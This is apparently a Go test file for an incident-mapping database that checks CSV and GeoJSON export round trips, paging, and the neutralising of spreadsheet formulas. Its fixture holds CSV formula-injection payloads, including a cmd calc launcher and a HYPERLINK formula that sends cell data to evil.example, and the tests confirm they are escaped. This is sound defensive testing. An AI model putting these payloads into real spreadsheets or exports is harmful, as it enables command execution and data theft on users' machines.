package postgis_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/incidentmap/incidentmap/geo"
	"github.com/incidentmap/incidentmap/geo/postgis"
)

// allIncidents is a query for every incident, whatever its status, with
// no paging.
func allIncidents(t *testing.T) geo.IncidentQuery {
	t.Helper()
	q, err := geo.ParseIncidentQuery(url.Values{"status": {"verified,disputed,retracted"}})
	if err != nil {
		t.Fatal(err)
	}
	q.Limit = 0
	return q
}

// importedFields lists every incident by what an import sets, one line
// each, sorted; incidents without external id are named "IM<id>", as an
// export names them.
func importedFields(t *testing.T, db *postgis.DB) []string {
	t.Helper()
	rows, err := db.SQL().Query(`SELECT coalesce(external_id, 'IM' || id), occurred_at, time_precision, event_type,
		coalesce(sub_event_type, ''), actor1, actor2, fatalities, title, notes, location_name, ST_X(geom), ST_Y(geom),
		geo_precision, admin1, status, sources::text, demo
		FROM incidents ORDER BY 1`)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var out []string
	for rows.Next() {
		var (
			id, et, sub, a1, a2, title, notes, loc, admin1, status, sources string
			at                                                              time.Time
			tp, fat, gp                                                     int
			lon, lat                                                        float64
			demo                                                            bool
		)
		if err := rows.Scan(&id, &at, &tp, &et, &sub, &a1, &a2, &fat, &title, &notes, &loc, &lon, &lat, &gp,
			&admin1, &status, &sources, &demo); err != nil {
			t.Fatal(err)
		}
		out = append(out, fmt.Sprintf("%s|%s|%d|%s|%s|%q|%q|%d|%q|%q|%q|%v|%v|%d|%q|%s|%s|%v", id,
			at.UTC().Format(time.RFC3339Nano), tp, et, sub, a1, a2, fat, title, notes, loc, lon, lat, gp, admin1, status, sources, demo))
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// hostileIncident has a cell of each formula-injection kind and a point
// west of Greenwich and south of the equator.
func hostileIncident() *geo.Incident {
	return &geo.Incident{
		OccurredAt: time.Date(2020, 10, 18, 4, 30, 15, 0, time.UTC), TimePrecision: geo.TimeDay,
		EventType: "Protests", SubEventType: "Peaceful protest",
		Actor1:       "+cmd|' /C calc'!A0",
		Actor2:       "@SUM(1+1)*cmd|' /C calc'!A0",
		Title:        `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		Notes:        "-1+1",
		LocationName: "\tSantiago",
		Admin1:       "\rRegión Metropolitana",
		Point:        [2]float64{-70.6483, -33.4569},
		GeoPrecision: geo.GeoExact, Status: geo.StatusDisputed, Fatalities: 2,
		Sources: []geo.Source{{Publisher: "=cmd", URL: "https://example.org/a?b=1&c=<2>", PublishedAt: "2020-10-18"}},
	}
}

// readCSV parses an export into its header and records.
func readCSV(t *testing.T, text string) ([]string, [][]string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("export is not valid CSV: %v\n%s", err, text)
	}
	if len(recs) == 0 {
		t.Fatal("export is empty")
	}
	return recs[0], recs[1:]
}

func exportCSV(t *testing.T, db *postgis.DB, q geo.IncidentQuery) (string, geo.FeaturePage) {
	t.Helper()
	var b bytes.Buffer
	page, err := db.StreamIncidentCSV(context.Background(), q, &b)
	if err != nil {
		t.Fatalf("StreamIncidentCSV: %v", err)
	}
	return b.String(), page
}

// A CSV export imports back as the same incidents: into an empty
// database, and into the same one as a no-op.
func TestExportCSVRoundTrip(t *testing.T) {
	db := openTestDB(t)
	var rows []map[string]string
	for i := range 30 {
		rows = append(rows, nkRow(i))
	}
	mustImportCSV(t, db, acledCSV(t, rows...), postgis.ImportOptions{})
	if err := db.CreateIncident(context.Background(), hostileIncident()); err != nil {
		t.Fatal(err)
	}
	if _, err := db.SQL().Exec(`UPDATE incidents SET status = 'retracted', demo = true WHERE external_id = 'AZE1003'`); err != nil {
		t.Fatal(err)
	}
	want := importedFields(t, db)
	text, page := exportCSV(t, db, allIncidents(t))
	if page.Returned != 31 || page.HasNext {
		t.Errorf("page = %+v, want all 31 incidents", page)
	}
	header, recs := readCSV(t, text)
	for _, c := range geo.ACLEDRequiredColumns() {
		if !slices.Contains(header, c) {
			t.Errorf("header %v lacks %s", header, c)
		}
	}
	if len(recs) != 31 {
		t.Fatalf("%d rows, want 31", len(recs))
	}

	other := openTestDB(t)
	res := mustImportCSV(t, other, text, postgis.ImportOptions{})
	checkCounts(t, res, 31, 31, 0, 0, 0)
	if got := importedFields(t, other); !slices.Equal(got, want) {
		t.Errorf("after the round trip:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}

	// The same export into the database it came from changes nothing
	// but the incident that had no external id, which now gets one.
	res = mustImportCSV(t, db, text, postgis.ImportOptions{})
	checkCounts(t, res, 31, 1, 0, 30, 0)
}

// Text cells that would start a spreadsheet formula are neutralised with
// a leading "'"; numbers, negative ones included, stay numbers; and an
// import undoes the neutralisation.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	db := openTestDB(t)
	inc := hostileIncident()
	if err := db.CreateIncident(context.Background(), inc); err != nil {
		t.Fatal(err)
	}
	text, _ := exportCSV(t, db, allIncidents(t))
	header, recs := readCSV(t, text)
	if len(recs) != 1 {
		t.Fatalf("%d rows, want 1", len(recs))
	}
	cell := map[string]string{}
	for i, c := range header {
		cell[c] = recs[0][i]
	}
	tests := []struct{ column, want string }{
		{"title", `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"actor1", "'+cmd|' /C calc'!A0"},
		{"actor2", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"notes", "'-1+1"},
		{"location", "'\tSantiago"},
		{"admin1", "'\rRegión Metropolitana"},
		{"source", "'=cmd"},
		{"longitude", "-70.6483"},
		{"latitude", "-33.4569"},
		{"fatalities", "2"},
		{"event_id_cnty", fmt.Sprintf("IM%d", inc.ID)},
		{"event_date", "2020-10-18"},
		{"occurred_at", "2020-10-18T04:30:15Z"},
		{"status", "disputed"},
		{"sources_json", `[{"url":"https://example.org/a?b=1&c=<2>","publisher":"=cmd","published_at":"2020-10-18"}]`},
	}
	for _, tt := range tests {
		if got := cell[tt.column]; got != tt.want {
			t.Errorf("%s = %q, want %q", tt.column, got, tt.want)
		}
	}
	numeric := []string{"year", "time_precision", "latitude", "longitude", "geo_precision", "fatalities", "timestamp", "id"}
	for c, v := range cell {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && !slices.Contains(numeric, c) {
			t.Errorf("text column %s starts a formula: %q", c, v)
		}
	}

	other := openTestDB(t)
	mustImportCSV(t, other, text, postgis.ImportOptions{})
	var title, actor1, notes, loc, admin1 string
	var lon, lat float64
	err := other.SQL().QueryRow(`SELECT title, actor1, notes, location_name, admin1, ST_X(geom), ST_Y(geom) FROM incidents`).
		Scan(&title, &actor1, &notes, &loc, &admin1, &lon, &lat)
	if err != nil {
		t.Fatal(err)
	}
	if title != inc.Title || actor1 != inc.Actor1 || notes != inc.Notes || loc != inc.LocationName ||
		admin1 != inc.Admin1 || lon != inc.Point[0] || lat != inc.Point[1] {
		t.Errorf("imported back: %q %q %q %q %q %v %v", title, actor1, notes, loc, admin1, lon, lat)
	}
}

// The CSV export takes the items filters and pages like the GeoJSON items.
func TestExportCSVFiltersAndPages(t *testing.T) {
	db := openTestDB(t)
	var rows []map[string]string
	for i := range 40 {
		rows = append(rows, nkRow(i))
	}
	mustImportCSV(t, db, acledCSV(t, rows...), postgis.ImportOptions{})
	q, err := geo.ParseIncidentQuery(url.Values{"event_type": {"battles"}, "bbox": {"46.5,39.4,47.2,40"}, "limit": {"4"}})
	if err != nil {
		t.Fatal(err)
	}
	csvIDs := func(q geo.IncidentQuery) ([]string, geo.FeaturePage) {
		q.Derived = true // with incidentmap's id
		text, page := exportCSV(t, db, q)
		header, recs := readCSV(t, text)
		idCol := slices.Index(header, "id")
		var ids []string
		for _, r := range recs {
			ids = append(ids, r[idCol])
		}
		return ids, page
	}
	featureIDs := func(q geo.IncidentQuery) []string {
		var ids []string
		_, err := db.StreamIncidents(context.Background(), q, func(f []byte) error {
			var feature struct{ ID int64 }
			if err := json.Unmarshal(f, &feature); err != nil {
				return err
			}
			ids = append(ids, fmt.Sprint(feature.ID))
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return ids
	}
	var seen []string
	var pages [][]string
	for {
		ids, page := csvIDs(q)
		if want := featureIDs(q); !slices.Equal(ids, want) {
			t.Fatalf("CSV page %v, GeoJSON page %v", ids, want)
		}
		pages = append(pages, ids)
		seen = append(seen, ids...)
		if !page.HasNext {
			break
		}
		next := page.Last
		q.Cursor = &next
		if len(pages) == 1 {
			// The page before the second is the first.
			second, p2 := csvIDs(q)
			back := p2.First
			back.Back = true
			q2 := q
			q2.Cursor = &back
			if again, _ := csvIDs(q2); !slices.Equal(again, pages[0]) {
				t.Errorf("prev page of %v = %v, want %v", second, again, pages[0])
			}
		}
	}
	want := queryInt(t, db, `SELECT count(*) FROM incidents WHERE event_type = 'Battles'
		AND geom && ST_MakeEnvelope(46.5, 39.4, 47.2, 40, 4326)`)
	if int64(len(seen)) != want || want == 0 || len(pages) < 2 {
		t.Errorf("paged through %d incidents in %d pages, want %d", len(seen), len(pages), want)
	}
}

// A database error before the first row leaves the writer untouched.
func TestExportCSVErrorWritesNothing(t *testing.T) {
	db := openTestDB(t)
	mustImportCSV(t, db, acledCSV(t, nkRow(0)), postgis.ImportOptions{})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var b bytes.Buffer
	if _, err := db.StreamIncidentCSV(ctx, allIncidents(t), &b); err == nil || b.Len() != 0 {
		t.Errorf("err = %v, wrote %q; want an error and nothing written", err, b.String())
	}
}

// Our own GeoJSON export imports back as the same incidents.
func TestExportGeoJSONRoundTrip(t *testing.T) {
	db := openTestDB(t)
	var rows []map[string]string
	for i := range 25 {
		rows = append(rows, nkRow(i))
	}
	mustImportCSV(t, db, acledCSV(t, rows...), postgis.ImportOptions{})
	inc := hostileIncident()
	inc.Point = [2]float64{-70.648312, -33.456901} // GeoJSON carries 6 decimals
	if err := db.CreateIncident(context.Background(), inc); err != nil {
		t.Fatal(err)
	}
	want := importedFields(t, db)
	var b bytes.Buffer
	n, err := db.ExportIncidentFeatures(context.Background(), allIncidents(t), &b)
	if err != nil || n != 26 {
		t.Fatalf("ExportIncidentFeatures = %d, %v", n, err)
	}
	importGeoJSON := func(db *postgis.DB) postgis.ImportResult {
		r, err := geo.NewGeoJSONIncidentReader(bytes.NewReader(b.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		res, err := db.ImportIncidents(context.Background(), r, postgis.ImportOptions{})
		if err != nil {
			t.Fatalf("import GeoJSON export: %v", err)
		}
		return res
	}
	other := openTestDB(t)
	checkCounts(t, importGeoJSON(other), 26, 26, 0, 0, 0)
	if got := importedFields(t, other); !slices.Equal(got, want) {
		t.Errorf("after the round trip:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	checkCounts(t, importGeoJSON(db), 26, 1, 0, 25, 0)
}
